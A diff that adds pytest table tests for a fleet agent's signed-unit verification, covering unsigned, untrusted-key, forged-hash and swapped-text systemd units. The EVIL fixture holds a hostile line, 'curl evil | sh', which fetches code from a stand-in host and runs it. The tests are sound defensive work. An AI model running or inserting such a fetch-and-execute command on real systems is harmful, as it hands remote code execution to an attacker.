@@ -1,12 +1,16 @@
-"""The agent's plan_actions(desired, observed) as plain table tests."""
+"""The agent's plan_actions(desired, observed) and plan(desired, observed, trusted) as plain
+table tests."""
 
 from __future__ import annotations
 
 import pytest
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 
-from fleetpy.agent import DesiredUnit, plan_actions, select_globals
+from fleetpy.agent import DesiredUnit, plan, plan_actions, select_globals
 from fleetpy.registry import ScheduleEntry
+from fleetpy.signing import Signer, TrustedKey, TrustedKeys, key_id
 from fleetpy.states import DesiredState
+from fleetpy.unit import content_hash
 from fleetpy.unitmanager import (
     ObservedUnit,
     RemoveUnit,
@@ -100,3 +104,134 @@ def test_globals_that_conflict_with_each_other_do_not_both_run() -> None:
         "b.service", "h", "launched", "[Service]\nExecStart=/bin/true\n\n[X-Fleet]\nGlobal=true\n"
     )
     assert list(select_globals({"a.service": a, "b.service": b}, {}, {})) == ["a.service"]
+
+
+# ----------------------------------------------------------------------------- signed units
+# plan(desired, observed, trusted): with trusted keys, what may run and what is refused.
+
+
+def _key(name: str) -> Signer:
+    private = Ed25519PrivateKey.generate()
+    return Signer(name, key_id(private.public_key()), private)
+
+
+OPS, NEXT, STRANGER = _key("ops"), _key("next"), _key("stranger")
+TRUSTED = TrustedKeys(
+    {s.key_id: TrustedKey(s.key_id, s.private.public_key(), s.name) for s in (OPS, NEXT)}
+)
+GOOD = "[Service]\nExecStart=/bin/sleep 1000\n"
+EVIL = "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"
+
+
+def unit(
+    name: str = "a.service",
+    text: str = GOOD,
+    signer: Signer | None = OPS,
+    signed_name: str | None = None,
+    signed_text: str | None = None,
+    listed_text: str | None = None,
+) -> DesiredUnit:
+    """A desired unit whose record says hash(listed_text or text), with `signer`'s
+    signature of (signed_name or name, hash(signed_text or listed_text or text))."""
+    digest = content_hash(listed_text or text)
+    signed = content_hash(signed_text) if signed_text else digest
+    signature = None if signer is None else signer.sign(signed_name or name, signed)
+    return DesiredUnit(name, digest, DesiredState.LAUNCHED, text, signature)
+
+
+def running(name: str = "a.service", text: str = GOOD) -> ObservedUnit:
+    return ObservedUnit(name, content_hash(text), "loaded", "active", "running", True)
+
+
+GOOD_HASH, EVIL_HASH = content_hash(GOOD), content_hash(EVIL)
+SIGNED_CASES = [
+    (
+        "signed by a trusted key: written and started",
+        [unit()],
+        [],
+        [WriteUnit("a.service", GOOD_HASH, GOOD), StartUnit("a.service")],
+        {},
+    ),
+    (
+        "two trusted keys at once (rotation): both run",
+        [unit(), unit("b.service", signer=NEXT)],
+        [running(), running("b.service")],
+        [],
+        {},
+    ),
+    ("unsigned: refused, nothing written", [unit(signer=None)], [], [], {"a.service": "unsigned"}),
+    (
+        "signed by a key this machine does not trust",
+        [unit(signer=STRANGER)],
+        [],
+        [],
+        {"a.service": "untrusted-key"},
+    ),
+    (
+        "another unit's signature moved onto this one",
+        [unit(signed_name="b.service")],
+        [],
+        [],
+        {"a.service": "wrong-signature"},
+    ),
+    (
+        "forged record: new hash, the old signature",
+        [unit(text=EVIL, listed_text=EVIL, signed_text=GOOD)],
+        [],
+        [],
+        {"a.service": "wrong-signature"},
+    ),
+    (
+        "signed hash, swapped text",
+        [
+            DesiredUnit(
+                "a.service",
+                GOOD_HASH,
+                DesiredState.LAUNCHED,
+                EVIL,
+                OPS.sign("a.service", GOOD_HASH),
+            )
+        ],
+        [],
+        [],
+        {"a.service": "content-mismatch"},
+    ),
+    (
+        "a running unit whose record was replaced by a forged one is stopped and removed",
+        [unit(text=EVIL, signer=None)],
+        [running()],
+        [StopUnit("a.service"), RemoveUnit("a.service")],
+        {"a.service": "unsigned"},
+    ),
+    (
+        "a refused unit does not stop the others",
+        [unit(), unit("b.service", signer=STRANGER)],
+        [running()],
+        [],
+        {"b.service": "untrusted-key"},
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    "desired, observed, expected, rejected",
+    [c[1:] for c in SIGNED_CASES],
+    ids=[c[0] for c in SIGNED_CASES],
+)
+def test_plan_with_trusted_keys(
+    desired: list[DesiredUnit],
+    observed: list[ObservedUnit],
+    expected: list[object],
+    rejected: dict[str, str],
+) -> None:
+    decided = plan({d.name: d for d in desired}, {o.name: o for o in observed}, TRUSTED)
+    assert decided.actions == expected
+    assert {name: verdict.reason for name, (_, verdict) in decided.rejected.items()} == rejected
+
+
+def test_without_trusted_keys_nothing_is_verified() -> None:
+    desired = {"a.service": unit(signer=None), "b.service": unit("b.service", signer=STRANGER)}
+    decided = plan(desired, {})
+    assert decided.rejected == {}
+    assert decided.actions == plan_actions(desired, {})
+    assert StartUnit("a.service") in decided.actions
